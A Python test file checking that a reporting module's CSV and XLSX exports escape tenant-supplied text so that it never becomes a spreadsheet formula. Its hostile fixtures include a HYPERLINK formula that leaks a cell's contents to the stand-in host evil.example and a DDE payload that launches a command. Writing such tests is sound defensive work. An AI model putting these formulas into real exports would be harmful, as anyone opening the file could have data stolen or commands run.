"""Report cells built from tenant data never become spreadsheet formulas (CSV and XLSX)."""

from __future__ import annotations

import dataclasses

import openpyxl
import pytest

from meridian.reports.cells import csv_safe, is_formula_like
from meridian.reports.render import render_report
from tests.unit.test_reports import load, read_csv, warehouse  # noqa: F401 - the module's warehouse fixture

HOSTILE_TENANT = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),  # a negative amount is a number, not a formula
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("Sales reps", "Sales reps"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_csv_safe(text, expected):
    assert csv_safe(text) == expected
    assert is_formula_like(text) == (expected != text)


def test_rendered_csv_and_xlsx_keep_hostile_text_as_text(warehouse):  # noqa: F811
    data = dataclasses.replace(load("acme"), tenant_id=HOSTILE_TENANT, report_name=HOSTILE_NAME)
    csv_path, xlsx_path = render_report(data, ["csv", "xlsx"], warehouse / "out" / "formula-injection")

    rows = read_csv(csv_path)
    assert rows and {row["tenant_id"] for row in rows} == {"'" + HOSTILE_TENANT}
    values = [row["value"] for row in rows]
    assert not [value for value in values if is_formula_like(value)]
    assert any(value.startswith("-") for value in values), "negative amounts stay plain numbers"

    book = openpyxl.load_workbook(xlsx_path)
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a report cell became a formula"
    hostile = [cell for cell in cells if cell.value in (HOSTILE_NAME, HOSTILE_TENANT)]
    assert hostile, "the hostile text is in the workbook, unchanged"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
